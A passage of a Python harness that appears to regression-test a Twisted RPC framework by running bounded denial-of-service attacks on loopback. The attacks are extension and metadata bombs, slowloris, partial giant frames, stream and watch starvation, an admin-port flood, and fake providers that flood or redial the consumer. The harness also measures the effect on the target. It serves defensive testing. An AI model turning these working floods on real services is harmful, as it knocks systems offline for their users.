"""The attacks of issue 13, run against real processes on 127.0.0.1 (bounded).

    PYTHONPATH=. .venv/bin/python -m scripts.attacks [--only NAME] [--seconds S] [--json out.json]

For each attack: a real ``twistd -n --pidfile= mprpc`` provider (echo and stream services,
Health, Reflection) and a good client (a ``twisted_rpc.Client`` in its own
process calling ``Echo`` ~200 times a second, open loop, 2 s deadline). The
attack's target is the provider, or for the consumer attacks the good
client's own process, which is then also made to dial a fake provider run
here on raw sockets. Three phases: ``before`` (good client only), ``during``
(the attack, bounded in count and time; the phase ends when the attack's
sockets are closed) and ``after``. Per phase: the target's RSS (at the end,
and its peak from VmHWM reset at the phase's start), CPU seconds (from
/proc/<pid>/stat), open descriptors, bytes it logged, the good client's
latency (p50/p99 of the calls started in the phase) and failed calls, and a
probe that opens a new connection and makes one call every 0.25 s (new
connections are what a connection flood denies; the good client's own
connection was open before it started). The attack's sockets come from
127.0.0.2, the good client's and the probe's from 127.0.0.1: two peers.

Every process is stopped by PID in a ``finally``; an attack that fails to run
is reported as such and the run goes on. Prints a JSON line per attack and a
markdown table at the end; ``--json`` writes all results to a file.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import resource
import select
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import traceback
from collections import deque
from collections.abc import Callable
from dataclasses import dataclass
from itertools import pairwise
from pathlib import Path
from typing import Any

from testbed.protos import echo_pb2
from twisted_rpc.core import _codec as wire
from twisted_rpc.ops._protos import FileDescriptorsRequest, HealthWatchRequest

ROOT = Path(__file__).resolve().parent.parent
TWISTD = str(Path(sys.executable).with_name("twistd"))
ECHO_SERVICE = "mprpc.test.EchoService"
ECHO_ROUTE = b"mprpc.test.EchoService/Echo"
WATCH_ROUTE = b"mprpc.health.v1.Health/Watch"
SYMBOL_ROUTE = b"mprpc.reflection.v1.Reflection/FileContainingSymbol"
HEALTH_SERVICE = "mprpc.health.v1.Health"
SERVING = 1
MIB = 1024 * 1024
CLK_TCK = os.sysconf("SC_CLK_TCK")
PAGE_KIB = os.sysconf("SC_PAGE_SIZE") // 1024
PHASES = ("before", "during", "after")


# --------------------------------------------------------------------------- /proc


def rss_kib(pid: int) -> int:
    with open(f"/proc/{pid}/statm") as f:
        return int(f.read().split()[1]) * PAGE_KIB


def peak_rss_kib(pid: int) -> int | None:
    """VmHWM: the peak RSS since the process started or its last reset."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    return None


def reset_peak_rss(pid: int) -> bool:
    try:
        Path(f"/proc/{pid}/clear_refs").write_text("5")
        return True
    except OSError:
        return False


def cpu_seconds(pid: int) -> float:
    """User + system CPU of ``pid`` (fields 14 and 15 of /proc/<pid>/stat)."""
    raw = Path(f"/proc/{pid}/stat").read_text()
    fields = raw[raw.rindex(")") + 2 :].split()
    return (int(fields[11]) + int(fields[12])) / CLK_TCK


def open_fds(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


class Sampler(threading.Thread):
    """Samples a process's RSS and descriptors every 50 ms (a fallback for the
    peak when VmHWM cannot be reset, and the peak of descriptors)."""

    def __init__(self, pid: int) -> None:
        super().__init__(daemon=True)
        self.pid = pid
        self.samples: list[tuple[float, int, int]] = []  # (time, rss KiB, fds)
        self.halt = threading.Event()

    def run(self) -> None:
        while not self.halt.is_set() and len(self.samples) < 100_000:
            try:
                self.samples.append((time.monotonic(), rss_kib(self.pid), open_fds(self.pid)))
            except (OSError, ValueError):
                return  # the process is gone
            self.halt.wait(0.05)

    def peak(self, start: float, end: float) -> tuple[int, int]:
        inside = [(r, f) for t, r, f in self.samples if start <= t < end]
        if not inside:
            return 0, 0
        return max(r for r, _ in inside), max(f for _, f in inside)


# --------------------------------------------------------------------------- processes


def environment() -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(ROOT), env.get("PYTHONPATH")]))
    return env


class Process:
    """A subprocess whose output (stdout and stderr) is counted, not kept:
    bytes and lines, its last few KiB, and the first match of each pattern."""

    def __init__(
        self, argv: list[str], patterns: dict[str, str], nofile: int | None = None
    ) -> None:
        self.patterns = {name: re.compile(p.encode()) for name, p in patterns.items()}
        self.found: dict[str, re.Match] = {}
        self.events = {name: threading.Event() for name in patterns}
        self.bytes_out = 0
        self.lines_out = 0
        self.tail: deque[bytes] = deque(maxlen=3)  # the ends of the last chunks read

        def limits() -> None:
            if nofile is not None:
                _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
                resource.setrlimit(resource.RLIMIT_NOFILE, (nofile, hard))

        self.process = subprocess.Popen(
            argv,
            cwd=ROOT,
            env=environment(),
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            preexec_fn=limits,
        )
        self.pid = self.process.pid
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        """Read in large chunks, so that even megabyte log lines never make
        the process wait on its pipe; patterns are matched on each line's
        first 4 KiB while any is still unmatched."""
        assert self.process.stdout is not None
        fd = self.process.stdout.fileno()
        partial = b""
        while chunk := os.read(fd, 1 << 20):
            self.bytes_out += len(chunk)
            self.lines_out += chunk.count(b"\n")
            self.tail.append(chunk[-2000:])
            if len(self.found) == len(self.patterns):
                continue
            lines = (partial + chunk).split(b"\n")
            partial = lines.pop()[:4096]
            for line in lines:
                self._match(line[:4096])
        for event in self.events.values():
            event.set()

    def _match(self, line: bytes) -> None:
        for name, pattern in self.patterns.items():
            if name not in self.found:
                match = pattern.search(line)
                if match:
                    self.found[name] = match
                    self.events[name].set()

    def wait_for(self, name: str, timeout: float) -> re.Match:
        self.events[name].wait(timeout)
        if name not in self.found:
            raise RuntimeError(f"{self.pid}: no {name!r} in its output:\n{self.output_tail()}")
        return self.found[name]

    def output_tail(self) -> str:
        return b"".join(self.tail).decode("utf-8", "replace")

    @property
    def alive(self) -> bool:
        return self.process.poll() is None

    def signal(self, sig: int) -> None:
        if self.alive:
            os.kill(self.pid, sig)

    def stop(self) -> None:
        """SIGTERM, then SIGKILL after 10 s: gone when this returns."""
        if self.alive:
            os.kill(self.pid, signal.SIGTERM)
            try:
                self.process.wait(10)
            except subprocess.TimeoutExpired:
                os.kill(self.pid, signal.SIGKILL)
                self.process.wait(10)
        self._reader.join(5)


def start_provider(directory: Path, extra: str, nofile: int | None) -> Process:
    config = directory / "provider.ini"
    config.write_text(
        "[provider]\nlisten = tcp:0:interface=127.0.0.1\n"
        "services = testbed.echo_service:EchoService testbed.echo_service:StreamService\n"
        f"{extra}\n"
    )
    process = Process(
        [TWISTD, "-n", "--pidfile=", "mprpc", "--config", str(config)],
        {
            "port": r"provider listening on 127\.0\.0\.1:(\d+)",
            "admin": r"admin endpoint on http://127\.0\.0\.1:(\d+)",
        },
        nofile,
    )
    try:
        process.wait_for("port", 30)
        if "[admin]" in extra:
            process.wait_for("admin", 10)
    except Exception:
        process.stop()
        raise
    return process


# --------------------------------------------------------------------------- the good client


def good_client_main(argv: list[str]) -> int:
    """The good client process: Echo at a steady rate until SIGTERM, then
    writes every call's (start, latency or null, error) to ``--out``.
    SIGUSR1 makes it call the fake provider once (the consumer attacks)."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--fake-port", type=int, default=0)
    parser.add_argument("--rate", type=float, default=200)
    parser.add_argument("--timeout", type=float, default=2.0)
    parser.add_argument("--max-seconds", type=float, default=300)
    parser.add_argument("--out", required=True)
    args = parser.parse_args(argv)

    from twisted.internet import reactor, task
    from twisted.logger import globalLogBeginner, textFileLogObserver

    from testbed.echo_service import ECHO
    from twisted_rpc import Client
    from twisted_rpc.ops._protos import HEALTH, HealthCheckRequest

    globalLogBeginner.beginLoggingTo([textFileLogObserver(sys.stdout)], redirectStandardIO=False)
    providers = {ECHO_SERVICE: [f"127.0.0.1:{args.port}"]}
    if args.fake_port:
        providers[HEALTH_SERVICE] = [f"127.0.0.1:{args.fake_port}"]
    client = Client(reactor, providers=providers)
    echo = client.proxy(ECHO)
    health = client.proxy(HEALTH)
    calls: list[list[Any]] = []
    side: list[str] = []
    state = {"stopping": False, "issued": 0, "base": 0.0, "ready": False}
    request = echo_pb2.EchoRequest(payload=b"x" * 32)

    def one() -> None:
        record: list[Any] = [time.monotonic(), None, None]
        calls.append(record)

        def ok(_: object) -> None:
            record[1] = time.monotonic() - record[0]
            if not state["ready"]:
                state["ready"] = True
                print("good client ready", flush=True)

        def failed(f: Any) -> None:
            record[2] = type(f.value).__name__

        echo.Echo(request, timeout=args.timeout).addCallbacks(ok, failed)

    def tick() -> None:
        if state["stopping"]:
            return
        now = time.monotonic()
        due = int((now - state["base"]) * args.rate) - state["issued"]
        if due > args.rate * 0.1:  # fell behind (a blocked process): skip, do not burst
            state["base"] = now - state["issued"] / args.rate
            due = 1
        for _ in range(max(0, due)):
            state["issued"] += 1
            one()

    def dial_fake() -> None:
        d = health.Check(HealthCheckRequest(service=""), timeout=2)
        d.addCallbacks(lambda _: side.append("ok"), lambda f: side.append(str(f.value)))

    async def finish() -> None:
        state["stopping"] = True
        deadline = time.monotonic() + args.timeout + 3
        while any(r[1] is None and r[2] is None for r in calls) and time.monotonic() < deadline:
            await task.deferLater(reactor, 0.05, lambda: None)
        Path(args.out).write_text(json.dumps({"calls": calls, "fake_calls": side}))
        await client.close()

    def stop(*_: object) -> None:
        if not state["stopping"]:
            from twisted.internet.defer import Deferred

            d = Deferred.fromCoroutine(finish())
            d.addBoth(lambda _: reactor.stop())

    state["base"] = time.monotonic()
    loop = task.LoopingCall(tick)
    loop.start(0.01).addErrback(lambda f: print("tick failed:", f.value, flush=True))
    signal.signal(signal.SIGTERM, lambda *_: reactor.callFromThread(stop))
    signal.signal(signal.SIGUSR1, lambda *_: reactor.callFromThread(dial_fake))
    reactor.callLater(args.max_seconds, stop)
    reactor.run(installSignalHandlers=False)
    return 0


def start_good_client(directory: Path, port: int, fake_port: int) -> tuple[Process, Path]:
    out = directory / "good-client.json"
    process = Process(
        [
            sys.executable,
            "-m",
            "scripts.attacks",
            "--good-client",
            "--port",
            str(port),
            "--fake-port",
            str(fake_port),
            "--out",
            str(out),
        ],
        {"ready": "good client ready"},
    )
    try:
        process.wait_for("ready", 30)
    except Exception:
        process.stop()
        raise
    return process, out


# --------------------------------------------------------------------------- raw frames


def request_pieces(
    call_id: int, route: bytes, payload: bytes, ext: bytes | None = None, timeout_ms: int = 0
) -> list[bytes]:
    """A REQUEST frame in pieces (no copy of a large extension or payload)."""
    if ext is None:
        return [wire.encode_request(call_id, route, len(payload), timeout_ms), payload]
    length = 14 + len(route) + 4 + len(ext) + len(payload)
    header = struct.pack("!IBBHIIH", length, 1, wire.FLAG_EXT, 0, call_id, timeout_ms, len(route))
    return [header + route + struct.pack("!I", len(ext)), ext, payload]


def send_pieces(sock: socket.socket, pieces: list[bytes]) -> None:
    for piece in pieces:
        view = memoryview(piece)
        for start in range(0, len(view), MIB):
            sock.sendall(view[start : start + MIB])


def read_frames(sock: socket.socket, count: int, deadline: float) -> list[wire.Frame]:
    """Read until ``count`` frames arrived; raise on close or at ``deadline``."""
    frames: list[wire.Frame] = []
    decoder = wire.FrameDecoder(frames.append, 1 << 31)
    while len(frames) < count:
        left = deadline - time.monotonic()
        if left <= 0:
            raise TimeoutError(f"{len(frames)} of {count} answers by the deadline")
        sock.settimeout(left)
        data = sock.recv(1 << 20)
        if not data:
            raise ConnectionError(f"closed by the peer after {len(frames)} of {count} answers")
        decoder.feed(data)
    return frames


def echo_payload(body: bytes = b"x") -> bytes:
    return echo_pb2.EchoRequest(payload=body).SerializeToString()


def rpc_once(port: int, timeout: float) -> None:
    """A new connection and one Echo call on it; raises unless answered OK."""
    deadline = time.monotonic() + timeout
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        send_pieces(s, request_pieces(1, ECHO_ROUTE, echo_payload(b"probe")))
        (frame,) = read_frames(s, 1, deadline)
    if frame.status:
        raise RuntimeError(f"status {frame.status}: {frame.message[:100]}")


def http_once(port: int, timeout: float, path: str = "/status.json") -> int:
    """A new connection and one GET; the HTTP status."""
    deadline = time.monotonic() + timeout
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(f"GET {path} HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n".encode())
        data = b""
        while len(data) < 1 << 20:
            s.settimeout(max(0.01, deadline - time.monotonic()))
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    match = re.match(rb"HTTP/1\.\d (\d+)", data)
    if not match:
        raise RuntimeError(f"not an HTTP answer: {data[:60]!r}")
    return int(match.group(1))


class Probe(threading.Thread):
    """Every 0.25 s, a new connection and one call (``rpc``) or GET (``http``)."""

    def __init__(self, kind: str, port: int) -> None:
        super().__init__(daemon=True)
        self.kind = kind
        self.port = port
        self.results: list[tuple[float, bool]] = []
        self.halt = threading.Event()

    def run(self) -> None:
        while not self.halt.is_set() and len(self.results) < 10_000:
            started = time.monotonic()
            try:
                if self.kind == "rpc":
                    rpc_once(self.port, 2.0)
                elif http_once(self.port, 2.0) != 200:
                    raise RuntimeError("not 200")
                ok = True
            except Exception:
                ok = False
            self.results.append((started, ok))
            self.halt.wait(0.25)


# --------------------------------------------------------------------------- attacks


@dataclass
class Context:
    """What an attack is given: the target's ports, its time budget."""

    port: int  # the provider's RPC port
    seconds: float
    provider: Process
    admin_port: int = 0
    fake: socket.socket | None = None  # a listening socket the good client will dial
    target_pid: int = 0
    held_from: float | None = None  # set when all of a flood's connections are open

    def __post_init__(self) -> None:
        self.started = time.monotonic()
        self.deadline = self.started + self.seconds

    def left(self) -> float:
        return self.deadline - time.monotonic()


@dataclass
class Attack:
    name: str
    issue: str
    target: str  # "provider" or "consumer"
    what: str
    run: Callable[[Context], dict]
    provider_ini: str = ""
    probe: str | None = "rpc"
    nofile: int | None = None


ATTACKS: dict[str, Attack] = {}


def attack(name: str, issue: str, what: str, **kw: Any) -> Callable:
    def register(run: Callable[[Context], dict]) -> Callable[[Context], dict]:
        ATTACKS[name] = Attack(name, issue, kw.pop("target", "provider"), what, run, **kw)
        return run

    return register


ATTACKER = "127.0.0.2"
"""The attacker's source address: a peer of its own (Linux routes all of
127/8 to loopback), so that limits per peer address bound the attacker and not
the good client and the probe, which connect from 127.0.0.1."""


def _connect(port: int, timeout: float = 5.0) -> socket.socket:
    return socket.create_connection(
        ("127.0.0.1", port), timeout=timeout, source_address=(ATTACKER, 0)
    )


def _bombard(ctx: Context, ext: bytes, limit: int = 20) -> dict:
    """Send ``ext`` as one request's extension, wait for its answer; again
    while the time lasts (at most ``limit`` frames)."""
    sent = answered = 0
    outcomes: dict[str, int] = {}
    waits = []
    while sent < limit and (sent == 0 or ctx.left() > 0):
        try:
            with _connect(ctx.port, 30) as s:
                send_pieces(s, request_pieces(sent + 1, ECHO_ROUTE, echo_payload(), ext))
                sent += 1
                t = time.monotonic()
                (frame,) = read_frames(s, 1, t + 60)
                waits.append(time.monotonic() - t)
                answered += 1
                how = f"answered status {frame.status}"
        except (OSError, ConnectionError) as e:
            how = f"{type(e).__name__}"
        outcomes[how] = outcomes.get(how, 0) + 1
    return {
        "frames": sent,
        "frame_mib": round(len(ext) / MIB, 1),
        "outcomes": outcomes,
        "slowest_answer_s": round(max(waits), 2) if waits else None,
    }


@attack(
    "ext-bomb",
    "#8",
    "requests whose extension is 60 MiB of 5-byte reserved entries, one after the other",
)
def ext_bomb(ctx: Context) -> dict:
    return _bombard(ctx, b"\x09\x00\x00\x00\x00" * (60 * MIB // 5))


@attack(
    "metadata-bomb",
    "#8",
    "requests carrying 16 MiB of distinct metadata keys (1.2 M pairs), one after the other",
)
def metadata_bomb(ctx: Context) -> dict:
    entries = []
    size = 0
    i = 0
    while size < 16 * MIB:
        key = b"k%d" % i
        entry = struct.pack("!BIH", 2, 2 + len(key), len(key)) + key
        entries.append(entry)
        size += len(entry)
        i += 1
    return {**_bombard(ctx, b"".join(entries)), "keys": i}


@attack(
    "watch-starvation",
    "#9",
    "10 connections x 1,000 Health.Watch(max_wait=3600) held open, then closed",
)
def watch_starvation(ctx: Context) -> dict:
    payload = HealthWatchRequest(service="", last_status=SERVING, max_wait=3600).SerializeToString()
    sockets = []
    statuses: dict[int, int] = {}
    try:
        for _ in range(10):
            s = _connect(ctx.port)
            frames = b"".join(
                b"".join(request_pieces(i, WATCH_ROUTE, payload)) for i in range(1, 1001)
            )
            s.sendall(frames)
            sockets.append(s)
        decoders = {
            s: wire.FrameDecoder(
                lambda f: statuses.__setitem__(f.status, statuses.get(f.status, 0) + 1)
            )
            for s in sockets
        }
        while ctx.left() > 0:
            readable, _, _ = select.select(sockets, [], [], min(0.2, max(0.0, ctx.left())))
            for s in readable:
                data = s.recv(1 << 16)
                if data:
                    decoders[s].feed(data)
    finally:
        for s in sockets:
            s.close()
    return {
        "watches_sent": 10 * 1000,
        "answered_while_held_by_status": {str(k): v for k, v in sorted(statuses.items())},
    }


COUNT_ROUTE = b"mprpc.test.StreamService/Count"
CHAT_ROUTE = b"mprpc.test.StreamService/Chat"


def _open_streams(ctx: Context, settings: dict[str, str]) -> socket.socket:
    """A connection that announced ``settings`` (its window) in its first PING."""
    s = _connect(ctx.port, 30)
    s.sendall(wire.encode_ping(1, b"", settings))
    read_frames(s, 1, time.monotonic() + 10)  # the PONG
    return s


def _hold(ctx: Context, sockets: list[socket.socket]) -> None:
    """Keep ``sockets`` open, unread, while the time lasts."""
    ctx.held_from = time.monotonic()
    while ctx.left() > 0:
        time.sleep(min(0.2, max(0.0, ctx.left())))


@attack(
    "stream-unread",
    "#15",
    "4 connections x 300 server streams of 1 KiB messages (256 allowed each) with the "
    "largest window (2 GiB), never read, held",
)
def stream_unread(ctx: Context) -> dict:
    count = echo_pb2.CountRequest(forever=True, payload_size=1024).SerializeToString()
    sockets = []
    try:
        for _ in range(4):
            s = _open_streams(ctx, {"streams": "1", "stream_window": str(2**31 - 1)})
            sockets.append(s)
            s.sendall(
                b"".join(b"".join(request_pieces(i, COUNT_ROUTE, count)) for i in range(1, 301))
            )
        _hold(ctx, sockets)
    finally:
        for s in sockets:
            s.close()
    return {"streams_requested": 4 * 300}


@attack(
    "stream-big-messages",
    "#15",
    "8 bidi streams whose replies go unread (1 KiB window), then one 16 MiB request on each, held",
)
def stream_big_messages(ctx: Context) -> dict:
    small = echo_payload(b"s" * 100)
    big = echo_payload(b"B" * (16 * MIB))
    s = _open_streams(ctx, {"streams": "1", "stream_window": "1024"})
    try:
        for call_id in range(1, 9):
            send_pieces(s, request_pieces(call_id, CHAT_ROUTE, b""))
            for _ in range(20):  # the replies spend the window: the handler stops taking
                send_pieces(s, [wire.encode_message(call_id, len(small)), small])
        for call_id in range(1, 9):
            send_pieces(s, [wire.encode_message(call_id, len(big)), big])
        _hold(ctx, [s])
        closed = _peer_closed_now(s)
    finally:
        s.close()
    return {"sent_mib": 8 * 16, "closed_by_provider": closed}


def _peer_closed_now(s: socket.socket) -> bool:
    s.setblocking(False)
    return _peer_closed(s)


def _peer_closed(s: socket.socket) -> bool:
    """Whether the peer closed ``s`` (non-blocking; whatever it sent is dropped)."""
    try:
        while True:
            if not s.recv(1 << 16):
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


@attack(
    "slowloris",
    "#10",
    "1,000 connections each sending a frame one byte a second, held 6 s once open "
    "(provider idle_timeout = 3)",
    provider_ini="idle_timeout = 3\n",
)
def slowloris(ctx: Context) -> dict:
    frame = b"".join(request_pieces(1, ECHO_ROUTE, b"\0" * 1000))
    sockets: list[socket.socket] = []
    sent: dict[socket.socket, int] = {}
    refused = dribbled = 0
    last = time.monotonic()

    def dribble() -> None:
        nonlocal last, dribbled
        last = time.monotonic()
        dribbled += 1
        for s in sockets:
            if sent[s] < len(frame) - 1:  # never the last byte
                try:
                    s.send(frame[sent[s] : sent[s] + 1])
                    sent[s] += 1
                except OSError:
                    pass

    try:
        while len(sockets) + refused < 1000 and time.monotonic() < ctx.started + 20:
            try:
                s = _connect(ctx.port, 2)
                s.setblocking(False)
                s.send(frame[:1])
                sockets.append(s)
                sent[s] = 1
            except OSError:
                refused += 1
            if time.monotonic() - last >= 1:
                dribble()
        opened_in = round(time.monotonic() - ctx.started, 1)
        ctx.held_from = time.monotonic()
        hold_until = time.monotonic() + max(ctx.seconds, 6)  # twice the idle timeout
        while time.monotonic() < hold_until:
            time.sleep(max(0.0, min(1 - (time.monotonic() - last), hold_until - time.monotonic())))
            dribble()
        closed = sum(_peer_closed(s) for s in sockets)
    finally:
        for s in sockets:
            s.close()
    return {
        "connections": len(sockets),
        "refused_at_connect": refused,
        "opened_in_s": opened_in,
        "closed_by_provider": closed,
        "most_bytes_sent_on_one": max(sent.values(), default=0),
        "dribble_rounds": dribbled,
    }


def _partial_frames(port: int, count: int, body: int) -> tuple[list[socket.socket], int]:
    """``count`` connections, each sending the first ``body`` bytes of a 64 MiB frame."""
    chunk = memoryview(bytes(MIB))
    length = wire.DEFAULT_MAX_FRAME_SIZE
    header = struct.pack("!IBBHIIH", length, 1, 0, 0, 1, 0, len(ECHO_ROUTE)) + ECHO_ROUTE
    sockets = []
    stopped = 0
    for _ in range(count):
        s = _connect(port, 5)
        sockets.append(s)
        try:
            s.sendall(header)
            for _ in range(body // MIB):
                s.sendall(chunk)
        except OSError:
            stopped += 1
    return sockets, stopped


@attack(
    "partial-frames",
    "#10",
    "8 connections each sending 60 MiB of a 64 MiB frame, then one byte a second, held",
)
def partial_frames(ctx: Context) -> dict:
    sockets: list[socket.socket] = []
    try:
        sockets, stopped = _partial_frames(ctx.port, 8, 60 * MIB)
        while ctx.left() > 0:
            time.sleep(min(1.0, max(0.0, ctx.left())))
            for s in sockets:
                try:
                    s.send(b"\0")
                except OSError:
                    pass
        rss = rss_kib(ctx.target_pid)
    finally:
        for s in sockets:
            s.close()
    return {
        "connections": len(sockets),
        "stopped_while_sending": stopped,
        "rss_held_mib": rss // 1024,
    }


@attack(
    "closed-partials",
    "#11",
    "4 rounds of 5 connections sending 48 MiB of a 64 MiB frame, then closing",
)
def closed_partials(ctx: Context) -> dict:
    after_round = []
    for _ in range(4):
        sockets, _ = _partial_frames(ctx.port, 5, 48 * MIB)
        for s in sockets:
            s.close()
        time.sleep(0.5)
        after_round.append(rss_kib(ctx.target_pid) // 1024)
    return {"rss_after_each_round_mib": after_round}


@attack(
    "huge-route",
    "#12",
    "calls to an unknown 65,535-byte route, 20 at a time, while the time lasts (at most 400)",
)
def huge_route(ctx: Context) -> dict:
    route = b"x" * 65535
    frame = b"".join(request_pieces(1, route, b""))
    calls = reply_bytes = 0
    log_before = ctx.provider.bytes_out
    with _connect(ctx.port, 10) as s:
        while calls < 400 and ctx.left() > 0:
            batch = [frame[:8] + struct.pack("!I", calls + i + 1) + frame[12:] for i in range(20)]
            s.sendall(b"".join(batch))
            frames = read_frames(s, 20, time.monotonic() + 30)
            reply_bytes += sum(len(f.message.encode()) for f in frames)
            calls += 20
    time.sleep(0.5)  # let the log lines arrive
    return {
        "calls": calls,
        "reply_bytes_per_call": reply_bytes // max(calls, 1),
        "log_bytes_per_call": (ctx.provider.bytes_out - log_before) // max(calls, 1),
    }


@attack(
    "huge-symbol",
    "#12",
    "Reflection.FileContainingSymbol with a 10 MB symbol, one after the other (at most 10)",
)
def huge_symbol(ctx: Context) -> dict:
    payload = FileDescriptorsRequest(symbol="x" * 10_000_000).SerializeToString()
    calls = reply_bytes = 0
    log_before = ctx.provider.bytes_out
    with _connect(ctx.port, 10) as s:
        while calls < 10 and (calls == 0 or ctx.left() > 0):
            send_pieces(s, request_pieces(calls + 1, SYMBOL_ROUTE, payload))
            (frame,) = read_frames(s, 1, time.monotonic() + 30)
            reply_bytes += len(frame.message.encode()) + len(frame.payload)
            calls += 1
    time.sleep(0.5)
    return {
        "calls": calls,
        "reply_bytes_per_call": reply_bytes // max(calls, 1),
        "log_bytes_per_call": (ctx.provider.bytes_out - log_before) // max(calls, 1),
    }


@attack(
    "admin-flood",
    "#13",
    "1,100 connections to the admin port, each with half an HTTP request, held "
    "(provider run with a soft limit of 1,024 descriptors)",
    provider_ini="[admin]\nlisten = tcp:0:interface=127.0.0.1\n",
    nofile=1024,
)
def admin_flood(ctx: Context) -> dict:
    sockets = []
    failed = 0
    try:
        while len(sockets) + failed < 1100 and time.monotonic() < ctx.started + 20:
            try:
                s = _connect(ctx.admin_port, 2)
                s.sendall(b"GET /status HTTP/1.1\r\n")
                sockets.append(s)
            except OSError:
                failed += 1
        opened_in = round(time.monotonic() - ctx.started, 1)
        ctx.held_from = time.monotonic()
        time.sleep(ctx.seconds)  # held this long once all are open
        fds = open_fds(ctx.target_pid)
    finally:
        for s in sockets:
            s.close()
    time.sleep(0.5)
    try:
        refresh_inf = http_once(ctx.admin_port, 5, "/status?refresh=inf")
    except Exception as e:
        refresh_inf = f"{type(e).__name__}"
    return {
        "connections": len(sockets),
        "failed_to_connect": failed,
        "opened_in_s": opened_in,
        "provider_fds_while_held": fds,
        "status_refresh_inf": refresh_inf,
    }


def _accept_one(listener: socket.socket, timeout: float) -> socket.socket:
    listener.settimeout(timeout)
    conn, _ = listener.accept()
    return conn


@attack(
    "ping-bomb",
    "#1",
    "a fake provider that sends 16 MiB PINGs to the consumer and never reads (at most 3 GiB)",
    target="consumer",
    probe=None,
)
def ping_bomb(ctx: Context) -> dict:
    assert ctx.fake is not None
    payload = bytes(16 * MIB)
    conn = _accept_one(ctx.fake, 10)
    sent = pings = 0
    how = "time up"
    try:
        conn.settimeout(5)
        # PING frames, header then payload; nothing is ever read.
        while ctx.left() > 0 and sent < 3 * 1024 * MIB:
            header = struct.pack("!IBBHIIH", 14 + len(payload), 4, 0, 0, pings + 1, 0, 0)
            conn.sendall(header)
            conn.sendall(payload)
            pings += 1
            sent += len(payload)
    except OSError as e:
        how = f"{type(e).__name__} from the consumer"
    rss = rss_kib(ctx.target_pid)
    conn.close()
    ctx.fake.close()
    return {"pings": pings, "mib_sent": sent // MIB, "ended": how, "consumer_rss_mib": rss // 1024}


def _redial(ctx: Context, answer: Callable[[socket.socket], bool]) -> dict:
    """Accept every connection the consumer makes and ``answer`` it (True:
    keep it open until the consumer closes it), while the time lasts."""
    assert ctx.fake is not None
    listener = ctx.fake
    listener.setblocking(False)
    accepted = 0
    held: deque[socket.socket] = deque()
    try:
        while ctx.left() > 0 and accepted < 1_000_000:
            readable, _, _ = select.select([listener, *held], [], [], min(0.05, ctx.left()))
            for s in readable:
                if s is listener:
                    try:
                        conn, _ = listener.accept()
                    except BlockingIOError:
                        continue
                    accepted += 1
                    if answer(conn):
                        held.append(conn)
                        if len(held) > 500:
                            held.popleft().close()
                else:  # the consumer closed it
                    held.remove(s)
                    s.close()
    finally:
        for s in held:
            s.close()
        listener.close()
    return {"connections_accepted": accepted, "per_second": round(accepted / ctx.seconds, 1)}


@attack(
    "redial-close",
    "#2",
    "a fake provider that accepts the consumer's connection and closes it at once",
    target="consumer",
    probe=None,
)
def redial_close(ctx: Context) -> dict:
    def close(conn: socket.socket) -> bool:
        conn.close()
        return False

    return _redial(ctx, close)


@attack(
    "redial-banner",
    "#2",
    "a fake provider that answers every connection with an SSH banner",
    target="consumer",
    probe=None,
)
def redial_banner(ctx: Context) -> dict:
    def banner(conn: socket.socket) -> bool:
        try:
            conn.send(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
        except OSError:
            conn.close()
            return False
        return True

    return _redial(ctx, banner)


# --------------------------------------------------------------------------- a run


def latency_stats(calls: list[list[Any]], start: float, end: float) -> dict:
    inside = [c for c in calls if start <= c[0] < end]
    starts = [start, *(c[0] for c in inside), end]
    gap = max(b - a for a, b in pairwise(starts))  # the client itself stalled
    latencies = sorted(c[1] for c in inside if c[1] is not None)
    failed: dict[str, int] = {}
    for c in inside:
        if c[1] is None:
            failed[c[2] or "unfinished"] = failed.get(c[2] or "unfinished", 0) + 1

    def q(p: float) -> float | None:
        if not latencies:
            return None
        return round(latencies[min(len(latencies) - 1, int(p * len(latencies)))] * 1000, 1)

    return {
        "calls": len(inside),
        "ok": len(latencies),
        "failed": sum(failed.values()),
        "failed_by": failed,
        "p50_ms": q(0.5),
        "p99_ms": q(0.99),
        "max_ms": round(latencies[-1] * 1000, 1) if latencies else None,
        "longest_gap_between_calls_ms": round(gap * 1000, 1),
    }


def run_attack(attack: Attack, args: argparse.Namespace) -> dict:
    result: dict[str, Any] = {
        "attack": attack.name,
        "issue": attack.issue,
        "target": attack.target,
        "what": attack.what,
    }
    started: list[Process] = []
    fake: socket.socket | None = None
    sampler: Sampler | None = None
    probe: Probe | None = None
    directory = Path(tempfile.mkdtemp(prefix=f"attack-{attack.name}-"))
    try:
        provider = start_provider(directory, attack.provider_ini, attack.nofile)
        started.append(provider)
        port = int(provider.found["port"].group(1))
        admin_port = int(provider.found["admin"].group(1)) if "admin" in provider.found else 0
        fake_port = 0
        if attack.target == "consumer":
            fake = socket.socket()
            fake.bind(("127.0.0.1", 0))
            fake.listen(128)
            fake_port = fake.getsockname()[1]
        client, out = start_good_client(directory, port, fake_port)
        started.append(client)
        result["pids"] = [p.pid for p in started]
        target = provider if attack.target == "provider" else client
        pid = target.pid
        sampler = Sampler(pid)
        sampler.start()
        if attack.probe:
            probe = Probe(attack.probe, port)
            probe.start()
        marks: dict[str, float] = {}
        stats: dict[str, dict[str, Any]] = {}

        def begin(phase: str) -> None:
            marks[phase] = time.monotonic()
            hwm = reset_peak_rss(pid)
            stats[phase] = {
                "_cpu": cpu_seconds(pid),
                "_log": target.bytes_out,
                "_hwm": hwm,
            }

        def end(phase: str) -> None:
            s = stats[phase]
            now = time.monotonic()
